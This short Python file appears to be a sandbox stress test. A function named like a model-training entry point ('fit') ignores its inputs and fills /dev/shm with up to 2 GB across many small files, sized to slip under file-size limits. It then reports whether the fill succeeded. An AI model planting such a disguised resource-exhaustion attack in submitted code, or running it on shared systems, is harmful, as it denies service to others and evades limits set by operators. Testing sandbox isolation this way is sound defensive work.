# Attack: fill /dev/shm (shared memory is often a separate, unlimited tmpfs).


def fit(x, y, *, seed, max_seconds):
    written = 0
    chunk = b"\xab" * (1 << 20)
    index = 0
    try:
        while written < 2**31:
            with open(f"/dev/shm/fill-{index}", "wb") as f:  # many files: each stays below any file-size limit
                for _ in range(16):
                    f.write(chunk)
                    written += len(chunk)
            index += 1
    finally:
        print(f"SHM wrote {written // 2**20} MB")
    print("SHM FILLED without an error")
